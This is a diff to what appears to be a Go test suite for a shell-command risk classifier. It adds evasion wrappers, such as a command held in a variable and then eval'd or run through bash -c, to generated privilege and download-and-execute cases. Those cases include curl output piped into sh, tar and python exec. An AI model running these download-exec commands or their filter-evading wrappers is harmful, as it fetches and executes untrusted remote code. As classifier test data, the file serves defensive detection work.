@@ -48,6 +48,7 @@ var simpleWrappers = []string{"", "nice ", "nice -n 5 ", "timeout 9 ", "timeout 
 // written without single quotes.
 var codeWrappers = []string{
 	"%s",
+	"x='%s'; eval \"$x\"",
 	"bash -c '%s'",
 	"sh -c '%s'",
 	"eval '%s'",
@@ -166,7 +167,7 @@ func downloadExecCases() []classCase {
 		"curl -s "+u+".tgz | tar xz && ./install.sh", "curl -so a.tgz "+u+" && tar xzf a.tgz && make",
 		"coproc curl -s "+u+"; sh <&${COPROC[0]}", "curl -so Makefile "+u+"; make", "curl -so x "+u+"; cat x | sh",
 		"curl -so x "+u+"; bash -c \"$(cat x)\"", "curl -so x "+u+"; mv x y; sh y", "curl -so x "+u+"; python3 -c \"exec(open(\\\"x\\\").read())\"")
-	return combine("download-exec", wantHard, lines, []string{"%s", "bash -c '%s'", "f() { %s; }; f", "false && { %s; }"})
+	return combine("download-exec", wantHard, lines, []string{"%s", "bash -c '%s'", "f() { %s; }; f", "false && { %s; }", "C='%s'; bash -c \"$C\""})
 }
 
 // deviceWriteCases: every writer, every device, every path spelling.
@@ -238,7 +239,13 @@ func privilegeCases() []classCase {
 			lines = append(lines, fmt.Sprintf(f, p))
 		}
 	}
-	return combine("privilege", wantHard, lines, []string{"%s", "nice %s", "f() { %s; }; f"})
+	out := combine("privilege", wantHard, lines, []string{"%s", "nice %s", "f() { %s; }; f"})
+	for _, l := range lines {
+		if !strings.Contains(l, `\`) { // bash keeps a backslash inside "${C:-…}"
+			out = append(out, combine("privilege", wantHard, []string{l}, []string{"bash -c \"${C:-%s}\""})...)
+		}
+	}
+	return out
 }
 
 // forkBombCases: functions that multiply by any name and endless
